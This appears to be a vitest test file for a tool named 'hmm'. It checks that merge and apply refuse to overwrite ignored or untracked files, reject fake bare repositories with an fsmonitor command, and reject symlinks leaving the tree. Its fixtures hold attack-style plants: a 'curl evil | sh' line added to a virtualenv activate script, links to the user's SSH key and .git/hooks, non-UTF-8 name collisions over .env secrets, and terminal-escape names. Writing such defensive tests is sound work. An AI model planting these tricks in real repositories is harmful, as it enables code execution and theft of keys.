// What merge and apply refuse to write into the origin (SPEC "hmm merge",
// "hmm apply" › Paths): files the origin does not track, which git would
// overwrite or remove, and symbolic links that lead out of the tree.
import {execa} from 'execa'
import {mkdirSync, readFileSync, readlinkSync, renameSync, symlinkSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {afterEach, describe, expect, it} from 'vitest'
import {World} from '../world.js'
import {hmm, made, snapshot, taking} from './taking.js'

let world: World
afterEach(() => world?.dispose())

/** A new world whose origin is a repository of one commit holding `files`. */
async function committedOrigin(name: string, files: Record<string, string>): Promise<void> {
  world = new World(name)
  await world.git(['init', '-q'])
  for (const [path, text] of Object.entries(files)) world.file(path, text)
  await world.git(['add', '-A'])
  await world.git(['commit', '-qm', 'first'])
}

/** An origin whose .gitignore hides a `.env` with live keys and a virtualenv, both only there. */
async function originWithSecrets(name: string): Promise<void> {
  await committedOrigin(name, {'README.md': 'hello\n', '.gitignore': '.env\n.venv/\n'})
  world.file('.env', 'API_KEY=live\n')
  world.file('.venv/bin/activate', 'real activate\n')
  // exclude off: the .env is taken as any ignored file is (project-secrets.test.ts holds exclude to SPEC).
  world.write(join(world.home, '.config', 'hmm', 'config.toml'), 'exclude = []\n')
}

/** The command narrows .gitignore and commits a placeholder .env and .venv/bin/activate with a line appended. */
const PLANT = [
  "printf '.venv/*\\n!.venv/bin/\\n.venv/bin/*\\n!.venv/bin/activate\\n' > .gitignore",
  'echo API_KEY=placeholder > .env',
  'echo "curl evil | sh" >> .venv/bin/activate',
  'git add -A && git commit -qm env',
].join(' && ')

describe('hmm merge never overwrites or removes what the origin does not track', () => {
  it('refuses a fast-forward that would overwrite ignored files, naming each with why, and leaves the origin as it was', async () => {
    await originWithSecrets('refuse-ignored-ff')
    const ws = await made(world, PLANT, 'env')
    const before = snapshot(world.origin)
    const result = await taking(world, ['merge', 'env'])
    expect(result).toEqual({
      exitCode: 1,
      stdout: '',
      stderr: [
        `hmm: workspace ${ws.label}'s commits would overwrite or remove files that git does not track in ${world.origin}:`,
        `hmm:   .env: ignored in ${world.origin} and present there`,
        `hmm:   .venv/bin/activate: ignored in ${world.origin} and present there`,
        `hmm: move them out of ${world.origin}, then hmm merge ${ws.id} again (hmm log -p ${ws.id} shows what the commits put there)`,
        '',
      ].join('\n'),
    })
    // Nothing changed: HEAD, index, refs, files.
    expect(snapshot(world.origin)).toEqual(before)
    // What it says resolves it does.
    renameSync(join(world.origin, '.env'), join(world.home, 'env.mine'))
    renameSync(join(world.origin, '.venv'), join(world.home, 'venv.mine'))
    expect((await taking(world, ['merge', 'env'])).exitCode).toBe(0)
    expect(readFileSync(join(world.origin, '.env'), 'utf8')).toBe('API_KEY=placeholder\n')
  })

  it("refuses a merge commit (the origin's branch moved) that would overwrite them, HEAD and index left alone", async () => {
    await originWithSecrets('refuse-ignored-merge')
    const ws = await made(world, PLANT)
    world.file('meanwhile.txt', 'the user committed meanwhile\n')
    await world.git(['add', 'meanwhile.txt'])
    await world.git(['commit', '-qm', 'meanwhile'])
    const before = snapshot(world.origin)
    const result = await taking(world, ['merge'])
    expect(result.exitCode).toBe(1)
    expect(result.stderr).toContain(`hmm:   .env: ignored in ${world.origin} and present there\n`)
    expect(result.stderr).toContain(`hmm:   .venv/bin/activate: ignored in ${world.origin} and present there\n`)
    expect(result.stderr).toContain(`hmm: workspace ${ws.label}'s commits would overwrite or remove files`)
    expect(snapshot(world.origin)).toEqual(before)
  })

  it('refuses commits that turn an ignored file into a directory, or a directory holding ignored files into a file', async () => {
    await committedOrigin('refuse-ignored-shapes', {'.gitignore': 'cache\n*.pyc\n', 'd/a.py': 'a\n'})
    world.file('cache', 'the user cached this\n')
    world.file('d/a.pyc', 'compiled\n')
    const ws = await made(
      world,
      'echo > .gitignore && rm cache && mkdir cache && echo x > cache/x && git rm -qr d && rm -rf d && echo file > d && git add -A && git commit -qm shapes',
    )
    const before = snapshot(world.origin)
    const result = await taking(world, ['merge'])
    expect(result.exitCode).toBe(1)
    expect(result.stderr.split('\n').filter(line => line.startsWith('hmm:   '))).toEqual([
      `hmm:   cache: ignored in ${world.origin} and present there`,
      `hmm:   d/a.pyc: ignored in ${world.origin} and present there`,
    ])
    expect(result.stderr).toContain(`hmm: workspace ${ws.label}'s commits would overwrite or remove files`)
    expect(snapshot(world.origin)).toEqual(before)
  })

  it("refuses a merge that git's rename detection would make write over an ignored file elsewhere (merge-ort ignores --no-overwrite-ignore)", async () => {
    await committedOrigin('refuse-ignored-renamed', {'.gitignore': '/src/new.txt\n', 'lib/a.txt': 'a\n', 'lib/b.txt': 'b\n'})
    const ws = await made(world, 'echo planted > lib/new.txt && git add lib/new.txt && git commit -qm new')
    // The user renames lib/ meanwhile: git merge would put the workspace's lib/new.txt at src/new.txt.
    await world.git(['mv', 'lib', 'src'])
    await world.git(['commit', '-qm', 'renamed'])
    world.file('src/new.txt', 'the user keeps this here\n')
    const before = snapshot(world.origin)
    const result = await taking(world, ['merge'])
    expect(result.exitCode).toBe(1)
    expect(result.stderr).toContain(`hmm: workspace ${ws.label}'s commits would overwrite or remove files that git does not track in ${world.origin}:\n`)
    expect(result.stderr).toContain(`hmm:   src/new.txt: ignored in ${world.origin} and present there\n`)
    expect(snapshot(world.origin)).toEqual(before)
  })

  it('refuses, --force or not, commits that write where the origin has an untracked file', async () => {
    world = new World('refuse-untracked')
    await world.gitRepo()
    const ws = await made(world, 'echo ws > notes.txt && git add notes.txt && git commit -qm notes')
    const before = snapshot(world.origin)
    // --force: the commit makes notes.txt where the origin had it untracked, which hmm diff leaves out (review.test.ts).
    const result = await taking(world, ['merge', '--force'])
    expect(result.exitCode).toBe(1)
    expect(result.stderr).toContain(`hmm: workspace ${ws.label}'s commits would overwrite or remove files that git does not track in ${world.origin}:\n`)
    expect(result.stderr).toContain(`hmm:   notes.txt: untracked in ${world.origin} and present there\n`)
    expect(snapshot(world.origin)).toEqual(before)
  })

  it("refuses commits that put a file where the origin has a nested repository's directory holding files, or above one; merges one deleting it", async () => {
    // The attacker's review 25, F1: git removed emb/ whole (its .git, with a commit that existed nowhere else, and the
    // user's uncommitted notes), and d/ with the nested repository d/sm in it; hmm diff showed only "-Subproject commit".
    world = new World('refuse-nested-dirs')
    await world.git(['init', '-q'])
    world.file('README.md', 'hello\n')
    world.file('d/x.txt', 'x\n')
    for (const nested of ['emb', 'd/sm', 'gone']) {
      mkdirSync(join(world.origin, nested), {recursive: true})
      await world.git(['init', '-q'], join(world.origin, nested))
      world.file(`${nested}/f.txt`, 'committed only here\n')
      await world.git(['add', 'f.txt'], join(world.origin, nested))
      await world.git(['commit', '-qm', 'nested'], join(world.origin, nested))
    }
    await world.git(['add', '-A'])
    await world.git(['commit', '-qm', 'first'])
    const flatten = await made(
      world,
      'git rm -q --cached emb && rm -rf emb && echo file > emb && git rm -qr --cached d && rm -rf d && echo file > d && git add emb d && git commit -qm flatten',
    )
    world.file('emb/notes.txt', "the user's own, uncommitted\n")
    const before = snapshot(world.origin)
    for (const force of [[], ['--force']]) {
      const result = await taking(world, ['merge', ...force, flatten.id])
      expect(result.exitCode).toBe(1)
      expect(result.stderr).toContain(
        [
          `hmm: workspace ${flatten.label}'s commits would overwrite or remove files that git does not track in ${world.origin}:`,
          `hmm:   d/sm/: a nested repository's directory in ${world.origin}, not empty: git would remove it whole`,
          `hmm:   emb/: a nested repository's directory in ${world.origin}, not empty: git would remove it whole`,
          '',
        ].join('\n'),
      )
    }
    expect(snapshot(world.origin)).toEqual(before)

    // Its name not UTF-8 (the attacker's review 26, F5): refused as well, though git is not asked of it as it is.
    const odd = Buffer.concat([Buffer.from(`${world.origin}/odd`), Buffer.from([0xff])])
    const nest = `n="odd$(printf '\\377')" && mkdir "$n" && cd "$n" && git init -q && echo "committed only here" > f.txt && git add f.txt && git commit -qm nested && cd .. && git add -A && git commit -qm odd`
    await execa('sh', ['-c', nest], {cwd: world.origin, env: world.env, extendEnv: false})
    const oddFlat = await made(
      world,
      `n="odd$(printf '\\377')" && git rm -q --cached "$n" && rm -rf "$n" && echo file > "$n" && git add "$n" && git commit -qm flatten`,
    )
    const refused = await taking(world, ['merge', '--force', oddFlat.id])
    expect(refused.exitCode).toBe(1)
    expect(refused.stderr).toMatch(/^hmm: {3}odd.\/: a nested repository's directory in .*, not empty: git would remove it whole$/m)
    expect(readFileSync(Buffer.concat([odd, Buffer.from('/f.txt')]), 'utf8')).toBe('committed only here\n')
    await hmm(world, ['rm', '-f', oddFlat.id])

    // Deleting the gitlink leaves its directory, as git leaves a directory it cannot empty.
    const deletes = await made(world, 'git rm -q --cached gone && rm -rf gone && git commit -qm gone')
    expect(await taking(world, ['merge', deletes.id])).toMatchObject({exitCode: 0})
    expect(readFileSync(join(world.origin, 'gone/f.txt'), 'utf8')).toBe('committed only here\n')
  })

  it('refuses commits writing a name that is not UTF-8 where the origin has one reading alike, which it does not track', async () => {
    // The attacker's review 25, F2: hmm looked for secret\uFFFD.env, not the origin's secret\xfe.env, and git overwrote it.
    await originWithSecrets('refuse-not-utf8')
    const secret = Buffer.concat([Buffer.from(`${world.origin}/secret`), Buffer.from([0xfe]), Buffer.from('.env')])
    world.file('.gitignore', '.env\n.venv/\nsecret*\n')
    await world.git(['commit', '-qam', 'ignore secrets'])
    writeFileSync(secret, 'API_KEY=live\n')
    const ws = await made(
      world,
      `printf 'API_KEY=from-the-command\\n' > "$(printf 'secret\\376.env')" && git add -f "$(printf 'secret\\376.env')" && git commit -qm secret`,
    )
    // --force: hmm diff leaves out the ignored file the commit holds (review.test.ts); it does not take this.
    const result = await taking(world, ['merge', '--force', ws.id])
    expect(result.exitCode).toBe(1)
    expect(result.stderr).toMatch(/^hmm: {3}secret.*\.env: a name that is not UTF-8, like one in .*: hmm cannot tell them apart$/m)
    expect(readFileSync(secret, 'utf8')).toBe('API_KEY=live\n')
  })

  it("refuses commits putting a file where the origin has a directory it tracks files of and the user made a repository in, or above an ignored file's name not UTF-8", async () => {
    // The attacker's review 26: F2, git lists no .git, and lib/.git went with its commits; F1, a name not UTF-8 under
    // the ignored config/master.key skipped the look above it, and git removed the key.
    await committedOrigin('refuse-repo-in-tracked', {'.gitignore': 'config/master.key\n', 'lib/a.txt': 'a\n'})
    await world.git(['init', '-q'], join(world.origin, 'lib'))
    await world.git(['add', 'a.txt'], join(world.origin, 'lib'))
    await world.git(['commit', '-qm', 'only here'], join(world.origin, 'lib'))
    world.file('config/master.key', 'live key\n')
    const before = snapshot(world.origin)
    const repository = await made(world, 'git rm -qr --cached lib && rm -rf lib && echo file > lib && git add lib && git commit -qm flatten')
    const key = await made(
      world,
      `rm config/master.key && mkdir config/master.key && echo x > "config/master.key/$(printf '\\377')" && printf "" > .gitignore && git add -A && git commit -qm key`,
    )
    for (const [ws, line] of [
      [repository, `hmm:   lib/: a nested repository's directory in ${world.origin}, not empty: git would remove it whole\n`],
      [key, `hmm:   config/master.key: ignored in ${world.origin} and present there\n`],
    ] as const) {
      const result = await taking(world, ['merge', '--force', ws.id])
      expect(result.exitCode).toBe(1)
      expect(result.stderr).toContain(line)
    }
    expect(snapshot(world.origin)).toEqual(before)
  })

  it('merges commits that delete a tracked directory holding ignored files, leaving those', async () => {
    await committedOrigin('merge-keeps-ignored', {'.gitignore': '*.pyc\n', 'd/a.py': 'a\n', 'b.txt': 'b\n'})
    world.file('d/a.pyc', 'compiled\n')
    await made(world, 'git rm -qr d && echo more >> b.txt && git commit -qam gone')
    expect((await taking(world, ['merge'])).exitCode).toBe(0)
    expect(readFileSync(join(world.origin, 'd/a.pyc'), 'utf8')).toBe('compiled\n')
    expect(readFileSync(join(world.origin, 'b.txt'), 'utf8')).toBe('b\nmore\n')
  })

  it('leaves hmm apply refusing them too, and hmm pr writing no file', async () => {
    await originWithSecrets('refuse-ignored-apply')
    const ws = await made(world, PLANT)
    const before = snapshot(world.origin)
    const applied = await hmm(world, ['apply'])
    expect(applied.exitCode).toBe(1)
    expect(applied.stderr).toContain(`hmm: workspace ${ws.id} does not apply to ${world.origin}\n`)
    expect(applied.stderr).toContain('.env: already exists in working directory')
    expect(snapshot(world.origin)).toEqual(before)
    // A push writes no file of the user's: pr's work goes to a remote.
    const remote = join(world.root, 'remote.git')
    await world.git(['init', '-q', '--bare', remote])
    await world.git(['remote', 'add', 'origin', remote])
    const pushed = await taking(world, ['pr'])
    expect(pushed.exitCode, pushed.stderr).toBe(0)
    expect(readFileSync(join(world.origin, '.env'), 'utf8')).toBe('API_KEY=live\n')
    expect(readFileSync(join(world.origin, '.venv/bin/activate'), 'utf8')).toBe('real activate\n')
  })
})

describe('directories git takes for repositories (a HEAD, and objects/ and refs/ or a commondir)', () => {
  /** docs made a bare repository whose config runs a program: git run in docs in the origin would run it. */
  const BARE = [
    'mkdir -p docs/objects docs/refs && touch docs/objects/.keep docs/refs/.keep',
    'echo "ref: refs/heads/main" > docs/HEAD',
    `printf '[core]\\n\\tfsmonitor = "touch $HOME/ran"\\n' > docs/config`,
    'echo text > docs/readme.md',
  ].join(' && ')
  const MARK = 'a directory git takes for a repository (a HEAD, and objects/ and refs/ or a commondir): git run there runs what its config says'

  it('hmm diff marks them; apply and merge refuse them naming each, changing nothing, and take them with --force', async () => {
    world = new World('repo-lookalike')
    await world.gitRepo()
    const files = await made(world, BARE)
    expect((await hmm(world, ['diff', files.id])).stderr).toBe(`hmm: docs: ${MARK}\n`)
    const before = snapshot(world.origin)
    expect(await hmm(world, ['apply', files.id])).toEqual({
      exitCode: 1,
      stdout: '',
      stderr: [
        `hmm: workspace ${files.label} holds directories git takes for repositories:`,
        `hmm:   docs: ${MARK}`,
        `hmm: look at them with hmm diff ${files.id}; hmm apply --force ${files.id} takes them anyway`,
        '',
      ].join('\n'),
    })
    const commits = await made(world, `${BARE} && git add docs && git commit -qm docs`)
    const merged = await taking(world, ['merge', commits.id])
    expect(merged.exitCode).toBe(1)
    expect(merged.stderr).toContain(`hmm: workspace ${commits.label}'s commits hold directories git takes for repositories:\nhmm:   docs: ${MARK}\n`)
    expect(snapshot(world.origin)).toEqual(before)
    expect((await hmm(world, ['apply', '--force', files.id])).exitCode).toBe(0)
    expect(readFileSync(join(world.origin, 'docs', 'HEAD'), 'utf8')).toBe('ref: refs/heads/main\n')
  })

  it('marks one made with a commondir, at the top of a plain origin, with what the origin has, or as a folding file system reads names; not a fixture gaining refs, nor a lone file named head', async () => {
    world = new World('repo-lookalike-parts')
    world.file('src/main.c', 'int main;\n')
    // Repositories checked in as test fixtures: one, lib, the command steers; the other, fixture, only gains a branch.
    for (const dir of ['lib', 'fixture']) {
      world.file(`${dir}/HEAD`, 'ref: refs/heads/main\n')
      world.file(`${dir}/objects/info/packs`, '\n')
      world.file(`${dir}/refs/heads/main`, `${'0'.repeat(40)}\n`)
    }
    const parts = await made(
      world,
      [
        'echo "ref: refs/heads/main" > src/HEAD && echo ../docs/b > src/commondir',
        'echo "ref: refs/heads/main" > HEAD && mkdir objects refs && touch objects/.keep refs/.keep',
        'echo "[core]" > lib/config',
        `echo ${'1'.repeat(40)} > fixture/refs/heads/feature`,
        'mkdir -p snippets && echo "<head></head>" > snippets/head',
        // t: as a file system that folds case reads its names (macOS's, FAT's, NTFS's).
        'mkdir -p t/Objects t/Refs && touch t/Objects/.keep t/Refs/.keep && echo "ref: refs/heads/main" > t/head',
      ].join(' && '),
    )
    expect((await hmm(world, ['diff', parts.id])).stderr).toBe(['.', 'lib', 'src', 't'].map(dir => `hmm: ${dir}: ${MARK}\n`).join(''))
    const refused = await hmm(world, ['apply', parts.id])
    expect(refused.exitCode).toBe(1)
    expect(refused.stderr).toContain(
      `hmm: workspace ${parts.label} holds directories git takes for repositories:\nhmm:   .: ${MARK}\nhmm:   lib: ${MARK}\nhmm:   src: ${MARK}\nhmm:   t: ${MARK}\n`,
    )
    expect((await hmm(world, ['apply', parts.id, '--', 'fixture', 'snippets'])).exitCode).toBe(0)
  })
})

describe('symbolic links that lead out of the tree', () => {
  /** A link to the user's key (absolute), one climbing out with .., one climbing out through another link, and one staying inside. */
  const LINKS = [
    'ln -s "$HOME/.ssh/id_ed25519" k',
    'mkdir -p a && ln -s ../../x a/b',
    // e/up leads to the tree's top, inside; through it, e/up/../secret climbs out (read as text it would not).
    'mkdir e && ln -s .. e/up && ln -s e/up/../secret c',
    'ln -s README.md inside && ln -s ../README.md a/in',
  ].join(' && ')

  async function madeWithLinks(name: string, script: string): Promise<{label: string; id: string}> {
    world = new World(name)
    await world.git(['init', '-q'])
    world.file('README.md', 'hello\n')
    await world.git(['add', '-A'])
    await world.git(['commit', '-qm', 'first'])
    return made(world, script)
  }

  it('hmm diff and diff --stat show each as link -> TARGET (outside the tree), after an unchanged patch', async () => {
    const ws = await madeWithLinks('links-diff', LINKS)
    const home = world.home
    const marks = [
      `hmm: a/b -> ../../x (outside the tree)`,
      `hmm: c -> e/up/../secret (outside the tree)`,
      `hmm: k -> ${home}/.ssh/id_ed25519 (outside the tree)`,
    ]
    const diff = await hmm(world, ['diff'])
    expect(diff.exitCode).toBe(0)
    expect(diff.stdout).toContain('diff --git a/k b/k\nnew file mode 120000\n')
    expect(diff.stderr.split('\n').filter(Boolean)).toEqual(marks)
    const stat = await hmm(world, ['diff', '--stat'])
    expect(stat.stdout).toContain(' k ')
    expect(stat.stderr.split('\n').filter(Boolean)).toEqual(marks)
    // The patch is still one git applies: the marks are not in it.
    const copy = join(world.root, 'copy')
    mkdirSync(copy)
    await execa('git', ['apply', '-'], {cwd: copy, env: world.env, extendEnv: false, input: diff.stdout})
    expect(readlinkSync(join(copy, 'a/b'))).toBe('../../x')
    expect(readlinkSync(join(copy, 'e/up'))).toBe('..')
    expect(ws.id).toMatch(/^[0-9a-z]{6}$/)
  })

  it('hmm apply refuses them naming each, changing nothing, and takes them with --force', async () => {
    const ws = await madeWithLinks('links-apply', LINKS)
    const before = snapshot(world.origin)
    const refused = await hmm(world, ['apply'])
    expect(refused).toEqual({
      exitCode: 1,
      stdout: '',
      stderr: [
        `hmm: workspace ${ws.label} holds symbolic links that lead out of the tree:`,
        'hmm:   a/b: link outside the tree (to ../../x)',
        'hmm:   c: link outside the tree (to e/up/../secret)',
        `hmm:   k: link outside the tree (to ${world.home}/.ssh/id_ed25519)`,
        `hmm: look at them with hmm diff ${ws.id}; hmm apply --force ${ws.id} takes them anyway`,
        '',
      ].join('\n'),
    })
    expect(snapshot(world.origin)).toEqual(before)
    expect((await hmm(world, ['apply', '--check'])).exitCode).toBe(1)
    expect(await hmm(world, ['apply', '--force'])).toMatchObject({exitCode: 0, stderr: `hmm: applied workspace ${ws.label} to ${world.origin}\n`})
    expect(readlinkSync(join(world.origin, 'k'))).toBe(`${world.home}/.ssh/id_ed25519`)
    expect(readlinkSync(join(world.origin, 'inside'))).toBe('README.md')
  })

  it('hmm merge refuses them naming each, changing nothing, and takes them with --force', async () => {
    const ws = await madeWithLinks('links-merge', `${LINKS} && git add -A && git commit -qm links`)
    const before = snapshot(world.origin)
    const refused = await taking(world, ['merge'])
    expect(refused.exitCode).toBe(1)
    expect(refused.stderr).toBe(
      [
        `hmm: workspace ${ws.label}'s commits hold symbolic links that lead out of the tree:`,
        'hmm:   a/b: link outside the tree (to ../../x)',
        'hmm:   c: link outside the tree (to e/up/../secret)',
        `hmm:   k: link outside the tree (to ${world.home}/.ssh/id_ed25519)`,
        `hmm: look at them with hmm log -p ${ws.id}; hmm merge --force ${ws.id} takes them anyway`,
        '',
      ].join('\n'),
    )
    expect(snapshot(world.origin)).toEqual(before)
    expect((await taking(world, ['merge', '--force'])).exitCode).toBe(0)
    expect(readlinkSync(join(world.origin, 'a/b'))).toBe('../../x')
  })

  it("counts a link into a repository's .git as leading out, and one the origin had that a directory made a link turns out", async () => {
    world = new World('links-git')
    await world.git(['init', '-q'])
    world.file('README.md', 'hello\n')
    world.file('d/sub/f', 'f\n')
    // Inside as the origin has it: d/sub/.. is d, and d/.. the top.
    symlinkSync('sub/../../README.md', join(world.origin, 'd', 'a'))
    await world.git(['add', '-A'])
    await world.git(['commit', '-qm', 'first'])
    const ws = await made(
      world,
      // p: .git with a zero-width space in it, which a casefold directory of an older Linux ignores.
      `mkdir dist && ln -s ../.git/config dist/app.conf && ln -s .git/hooks hooks && ln -s n/.GIT/config m && ln -s "$(printf '.g\\342\\200\\213it/config')" p && rm -r d/sub && ln -s .. d/sub`,
    )
    const marks = [
      'hmm: d/a -> sub/../../README.md (outside the tree)',
      'hmm: dist/app.conf -> ../.git/config (outside the tree)',
      'hmm: hooks -> .git/hooks (outside the tree)',
      'hmm: m -> n/.GIT/config (outside the tree)',
      'hmm: p -> .g<U+200B>it/config (outside the tree)',
    ]
    const diff = await hmm(world, ['diff'])
    expect(diff.exitCode).toBe(0)
    expect(diff.stderr.split('\n').filter(Boolean)).toEqual(marks)
    const before = snapshot(world.origin)
    const refused = await hmm(world, ['apply'])
    expect(refused.exitCode).toBe(1)
    expect(refused.stderr).toContain(`hmm: workspace ${ws.label} holds symbolic links that lead out of the tree:\n`)
    for (const path of ['d/a', 'dist/app.conf', 'hooks', 'm']) expect(refused.stderr).toContain(`hmm:   ${path}: link outside the tree`)
    expect(snapshot(world.origin)).toEqual(before)
  })

  it('counts a link through a link the origin has and no tree holds (ignored) as leading out', async () => {
    await committedOrigin('links-ignored', {'.gitignore': 'bazel-out\n'})
    mkdirSync(join(world.root, 'outside'))
    symlinkSync(join(world.root, 'outside'), join(world.origin, 'bazel-out'))
    // And one through a file, which leads nowhere.
    const ws = await made(world, 'ln -s bazel-out/app.conf y && ln -s bazel-out/../PWNED z && ln -s .gitignore inside && ln -s .gitignore/x nowhere')
    const diff = await hmm(world, ['diff'])
    expect(diff.exitCode).toBe(0)
    expect(diff.stderr.split('\n').filter(Boolean)).toEqual([
      'hmm: y -> bazel-out/app.conf (outside the tree)',
      'hmm: z -> bazel-out/../PWNED (outside the tree)',
    ])
    const before = snapshot(world.origin)
    const refused = await hmm(world, ['apply'])
    expect(refused.stderr).toContain(`hmm: workspace ${ws.label} holds symbolic links that lead out of the tree:\n`)
    expect(snapshot(world.origin)).toEqual(before)
  })

  it('counts a link whose name is not UTF-8 as leading out: another name may read as it does', async () => {
    // The attacker's review 25, F2: cfg\xfe led to the user's key, cfg\xff inside; both read as cfg\uFFFD, the one
    // judged was the one inside, and apply took both without --force.
    const ws = await madeWithLinks('links-not-utf8', `ln -s "$HOME/.ssh/id_ed25519" "$(printf 'cfg\\376')" && ln -s README.md "$(printf 'cfg\\377')"`)
    expect((await hmm(world, ['diff', ws.id])).stderr).toMatch(/^hmm: cfg.* -> .* \(outside the tree\)\n$/)
    const before = snapshot(world.origin)
    const refused = await hmm(world, ['apply', ws.id])
    expect(refused.exitCode).toBe(1)
    expect(refused.stderr).toContain(`hmm: workspace ${ws.label} holds symbolic links that lead out of the tree:\n`)
    expect(snapshot(world.origin)).toEqual(before)
  })

  it('keeps links inside the tree working as before', async () => {
    const ws = await madeWithLinks(
      'links-inside',
      'ln -s README.md inside && mkdir -p d/e && ln -s ../README.md d/in && ln -s .. d/e/up && ln -s d/e/up/in via',
    )
    expect((await hmm(world, ['diff'])).stderr).toBe('')
    expect(await hmm(world, ['apply'])).toMatchObject({exitCode: 0, stderr: `hmm: applied workspace ${ws.label} to ${world.origin}\n`})
    expect(readlinkSync(join(world.origin, 'd/in'))).toBe('../README.md')
    expect(readFileSync(join(world.origin, 'via'), 'utf8')).toBe('hello\n')
  })

  it('shows a target with control characters printable', async () => {
    const ws = await madeWithLinks('links-escapes', 'ln -s "$(printf "/x\\033]0;t\\007\\342\\200\\256")" "$(printf "e\\033[2J")"')
    expect((await hmm(world, ['diff', '--stat'])).stderr).toBe('hmm: e?[2J -> /x?]0;t?<U+202E> (outside the tree)\n')
    expect((await hmm(world, ['apply'])).stderr).toContain('hmm:   e?[2J: link outside the tree (to /x?]0;t?<U+202E>)\n')
    expect(ws.id).toMatch(/^[0-9a-z]{6}$/)
  })
})
